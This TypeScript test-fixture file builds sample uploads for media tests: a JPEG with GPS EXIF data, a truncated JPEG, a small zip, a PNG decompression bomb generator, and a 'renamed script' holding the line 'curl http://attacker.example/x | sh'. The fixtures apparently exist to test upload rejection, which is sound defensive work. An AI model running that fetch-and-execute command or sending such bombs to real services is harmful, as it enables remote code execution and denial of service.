/**
 * Files for the media tests: a photograph-like JPEG with GPS in its EXIF,
 * and the bad uploads of issue 16 (a renamed script, a 20,000 × 20,000 PNG
 * bomb, a truncated JPEG, a zip).
 */
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { drawOfflineImage } from './offlineArt';

/** A blurred, colour-cast, noisy JPEG of a drawn scene with GPS coordinates in its EXIF. */
export async function testPhoto(width = 320, height = 240): Promise<Buffer> {
  const art = await drawOfflineImage({
    prompt: 'A city skyline by the sea at sunset',
    width,
    height,
    style: 'illustration',
    index: 0,
  });
  return sharp(art)
    .blur(1.1)
    .linear([1.15, 1, 0.82], [12, 12, 12])
    .withExif({
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 0/1',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 0/1',
      },
    })
    .jpeg({ quality: 70 })
    .toBuffer();
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb: a valid PNG header for a `side` × `side` greyscale
 * image whose compressed data is a few kilobytes (rows of zeros compress
 * about 1000:1). Only the first `rows` rows are really encoded: a decoder
 * would have to allocate the full image before noticing.
 */
export function bombPng(side = 20_000, rows = 200): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const raw = Buffer.alloc(rows * (side + 1));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The first 60 % of a real JPEG. */
export async function truncatedJpeg(): Promise<Buffer> {
  const full = await testPhoto(400, 300);
  return full.subarray(0, Math.floor(full.length * 0.6));
}

/** A shell script, named like a picture by whoever uploads it. */
export const renamedScript = Buffer.from('#!/bin/sh\ncurl http://attacker.example/x | sh\n');

/** A zip archive holding one text file (stored, not compressed). */
export function zipFile(): Buffer {
  const name = Buffer.from('notes.txt');
  const content = Buffer.from('hello');
  const crc = crc32(content) >>> 0;
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + content.length, 16);
  return Buffer.concat([local, name, content, central, name, end]);
}
